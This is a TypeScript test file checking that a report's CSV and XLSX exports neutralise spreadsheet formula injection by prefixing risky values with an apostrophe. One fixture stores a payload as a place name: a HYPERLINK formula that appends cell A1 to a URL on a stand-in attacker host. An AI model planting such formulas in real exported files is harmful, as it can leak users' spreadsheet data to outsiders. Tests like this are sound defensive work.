import { describe, expect, it } from "vitest";
import ExcelJS from "exceljs";
import { eq } from "drizzle-orm";
import { counties, places, visits } from "@/db/schema";
import { addPlace, addSession, addStaff, testDb } from "@/lib/test/db";
import { reachReport } from "./access";
import { reachCsv, reachXlsx } from "./export";
import { spreadsheetText } from "@/lib/text/spreadsheet";

describe("spreadsheetText", () => {
  it.each(["=1+1", "+358 40 123", "-2", "@SUM(A1)", "\t=1", "\r=1"])("marks %j as text", (value) => {
    expect(spreadsheetText(value)).toBe(`'${value}`);
  });

  it("leaves other text alone", () => {
    expect(spreadsheetText("Kohtaamo Tikkurila")).toBe("Kohtaamo Tikkurila");
    expect(spreadsheetText("a=b")).toBe("a=b");
  });
});

describe("the funder's files never carry a planner's text as a formula", () => {
  const db = testDb();
  const place = addPlace(db);
  const evil = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
  db.update(places).set({ name: evil }).where(eq(places.id, place.id)).run();
  db.update(counties).set({ name: { fi: "@county", sv: "@county", en: "@county" } }).where(eq(counties.id, place.countyId!)).run();
  const session = addSession(db, { placeId: place.id, kind: "drop_in", capacity: null, startsAt: new Date(Date.now() - 3 * 86_400_000) });
  db.insert(visits).values({ sessionId: session.id, kind: "parent", source: "walk_in", firstTime: true, clientKey: "export-test-1" }).run();
  const planner = addStaff(db, "planner");
  const result = reachReport(db, planner, { period: "all", place: String(place.id) }, { withSessions: true });
  if (!result.ok) throw new Error("planner refused");

  it("CSV: the place's name starts with an apostrophe in every cell it fills", () => {
    const csv = reachCsv(result.report, "en");
    expect(csv).toContain(`'=HYPERLINK`);
    expect(csv).not.toMatch(/(^|[,\n])"?=HYPERLINK/m);
  });

  it("XLSX: no cell is a formula, and the name is text marked as text", async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await reachXlsx(result.report, "en")) as unknown as ArrayBuffer);
    const cells: ExcelJS.Cell[] = [];
    workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => void cells.push(cell))));
    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula)).toEqual([]);
    const texts = cells.map((c) => c.value).filter((v): v is string => typeof v === "string");
    expect(texts.filter((v) => /^[=+\-@\t\r]/.test(v))).toEqual([]);
    expect(texts).toContain(`'${evil}`);
  });
});
